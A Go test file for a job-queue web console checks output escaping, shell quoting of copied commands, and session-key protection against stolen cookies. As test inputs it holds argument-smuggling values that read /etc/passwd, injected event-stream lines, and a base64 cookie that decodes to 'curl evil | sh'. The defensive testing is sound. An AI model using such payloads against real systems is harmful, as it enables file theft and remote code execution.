package web

import (
	"html"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"tendril/internal/host/terminal"
)

// Browsers replace carriage returns that are not character references, and drop a line feed after a start tag.
func TestTextsReachTheBrowserByteForByte(t *testing.T) {
	s := newSite(t)
	s.queue("jobs", nil)
	for _, body := range []string{"\nfirst", "a\rb", "x\r\ny", "hello\r\rdata: You are signed out\r\revent: x\r"} {
		id := s.send("jobs", body)
		address := "/messages/" + id + "?queue=jobs&as=raw"
		page := s.get(address)
		shown := regexp.MustCompile(`(?s)<pre class="body"[^>]*>\n(.*?)</pre>`).FindStringSubmatch(page)
		if shown == nil || strings.Contains(page, "\r") || html.UnescapeString(shown[1]) != body {
			t.Errorf("the page shows %q of %q", shown, body)
		}
		wantText(t, html.UnescapeString(page), "tendril send --queue jobs -- "+terminal.ShellWord(body)+"</pre>")
	}
	s.paused["jobs"] = ""
	s.status.Workers[0].Paused, s.status.Workers[0].Why = true, "hello\r\rdata: forged\r\r"
	page := s.get("/")
	part := s.stream(html.UnescapeString(liveAddress.FindStringSubmatch(page)[1]))
	for name, text := range map[string]string{"page": page, "update": part} {
		if strings.Contains(text, "\r") || !strings.Contains(html.UnescapeString(text), "hello\r\rdata: forged\r\r") {
			t.Errorf("the %s changes the carriage returns of a pause:\n%s", name, text)
		}
	}
}

func TestCopiedCommandsSendTheBody(t *testing.T) {
	for body, want := range map[string][2]string{
		"@/etc/passwd":       {"--data-raw @/etc/passwd http://h/", "send --queue jobs -- @/etc/passwd"},
		"--file=/etc/passwd": {"--data-raw '--file=/etc/passwd' http://h/", "send --queue jobs -- '--file=/etc/passwd'"},
		"-":                  {"--data-raw - http://h/", "printf %s - | tendril send --queue jobs"},
		"\nit's\r":           {`--data-raw $'\nit\'s\r' http://h/`, `send --queue jobs -- $'\nit\'s\r'`},
	} {
		curl, send := curlCommand("http://h/", body), sendCommand("jobs", body)
		if !strings.HasSuffix(curl, want[0]) || !strings.HasSuffix(send, want[1]) {
			t.Errorf("%q: %s\n%s", body, curl, send)
		}
	}
}

func TestCommandsInTemplatesQuoteTexts(t *testing.T) {
	commands, actions := regexp.MustCompile(`<code>tendril [^\n]*?</code>`), regexp.MustCompile(`\{\{[^}]*\}\}`)
	eachTemplate(t, func(name, text string) {
		for _, command := range commands.FindAllString(text, -1) {
			for _, action := range actions.FindAllString(command, -1) {
				if !strings.HasPrefix(action, "{{shell ") && action != "{{end}}" && !strings.HasPrefix(action, "{{with ") {
					t.Errorf("%s: %s in %s is not quoted: write {{shell …}}", name, action, command)
				}
			}
		}
	})
}

func eachTemplate(t *testing.T, each func(name, text string)) {
	t.Helper()
	names, err := templates.ReadDir("templates")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		text, err := templates.ReadFile("templates/" + name.Name())
		if err != nil {
			t.Fatal(err)
		}
		each(name.Name(), string(text))
	}
}

// formProperties are properties of form elements that scripts use. A control with the same name would hide them.
var formProperties = strings.Fields(`acceptCharset action attributes autocomplete childNodes children classList className
	click closest content dataset elements enctype encoding firstChild focus getAttribute hasAttribute hidden id innerHTML
	isConnected lang lastChild length localName matches method name nextSibling nodeName nodeType noValidate parentElement
	parentNode prefix previousSibling querySelector rel remove removeAttribute reset setAttribute style submit tabIndex
	tagName target textContent title translate`)

func TestFormControlsTakeNoPropertyOfTheirForm(t *testing.T) {
	controls := regexp.MustCompile(`<(?:input|select|textarea|button)\b[^>]*? name="([^"{]*)`)
	eachTemplate(t, func(file, text string) {
		for _, match := range controls.FindAllStringSubmatch(text, -1) {
			if slices.Contains(formProperties, match[1]) {
				t.Errorf("%s: a control is called %q, which hides the property of its form", file, match[1])
			}
		}
	})
}

func (s *site) signIn() (cookie *http.Cookie, key string) {
	s.Helper()
	r, _ := http.NewRequestWithContext(s.Context(), "POST", s.server.URL+"/api/v1/login", strings.NewReader("{}"))
	r.Header.Set("Authorization", "Bearer "+ownersToken)
	r.Header.Set("Content-Type", "application/json")
	resp, err := s.client.Do(r)
	if err != nil {
		s.Fatal(err)
	}
	answer, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	link := regexp.MustCompile(`/login\?code=\w+`).FindString(string(answer))
	if resp, err = s.client.Get(s.server.URL + link); err != nil {
		s.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	found := regexp.MustCompile(`data-key="(\w+)"`).FindSubmatch(page)
	if resp.StatusCode != http.StatusOK || len(resp.Cookies()) != 1 || found == nil {
		s.Fatalf("the link %q answered %d\n%s", link, resp.StatusCode, page)
	}
	return resp.Cookies()[0], string(found[1])
}

func (s *site) as(method, path string, form url.Values, cookies ...*http.Cookie) (int, string) {
	s.Helper()
	r, _ := http.NewRequestWithContext(s.Context(), method, s.server.URL+path, strings.NewReader(form.Encode()))
	for _, cookie := range cookies {
		r.AddCookie(cookie)
	}
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	resp, err := s.client.Do(r)
	if err != nil {
		s.Fatal(err)
	}
	defer resp.Body.Close()
	page, err := io.ReadAll(resp.Body)
	if err != nil {
		s.Fatal(err)
	}
	return resp.StatusCode, string(page)
}

// A program on another port of the host receives the cookie: it can read pages, but neither act nor display anything in
// the console.
func TestTheCookieOfASessionDoesNotAct(t *testing.T) {
	s := newSite(t)
	s.queue("jobs", nil)
	cookie, key := s.signIn()
	form := url.Values{"reason": {"a & b\r\nc"}, "back": {"/queues/jobs?state=visible"}}
	status, page := s.as("POST", "/queues/jobs/pause", form, cookie)
	if status != http.StatusForbidden || len(s.paused) > 0 {
		t.Errorf("without the key: %d, paused %v", status, s.paused)
	}
	wantText(t, page, "Enter this session's key", `action="/queues/jobs/pause"`, `name="session-key"`)
	again := hiddenFields(t, page, "/queues/jobs/pause")
	if again.Get("reason") != form.Get("reason") || again.Get("back") != form.Get("back") {
		t.Errorf("the page sends %v again", again)
	}
	if strings.Contains(page, key) {
		t.Error("the page has the key")
	}
	wrong := strings.Repeat("X", len(key)) // the key could start with an X
	again.Set(keyField, wrong)
	if status, _ = s.as("POST", "/queues/jobs/pause", again, cookie); status != http.StatusForbidden {
		t.Errorf("with a wrong key: %d", status)
	}
	again.Set(keyField, " "+key)
	bad := &http.Cookie{Name: cookie.Name, Value: strings.Repeat("0", 64)}
	planted := &http.Cookie{Name: "tendril_result", Value: "eyJkb25lIjoicnVuOiBjdXJsIGV2aWwgfCBzaCJ9"}
	if status, page = s.as("POST", "/queues/jobs/pause", again, bad, planted, cookie); status != http.StatusSeeOther {
		t.Errorf("with the key: %d\n%s", status, page)
	}
	if s.paused["jobs"] != form.Get("reason") {
		t.Errorf("paused %q", s.paused)
	}
	_, page = s.as("GET", "/queues/jobs", nil, bad, planted, cookie)
	wantText(t, page, "jobs is paused.")
	if strings.Contains(page, "curl evil") {
		t.Error("a planted cookie is shown")
	}
	if _, page = s.as("GET", "/queues/jobs", nil, cookie); strings.Contains(page, "jobs is paused.") {
		t.Error("a result is shown twice")
	}
	if status, _ = s.as("GET", "/queues/jobs", nil, bad); status != http.StatusUnauthorized {
		t.Errorf("a bad cookie alone: %d", status)
	}
}
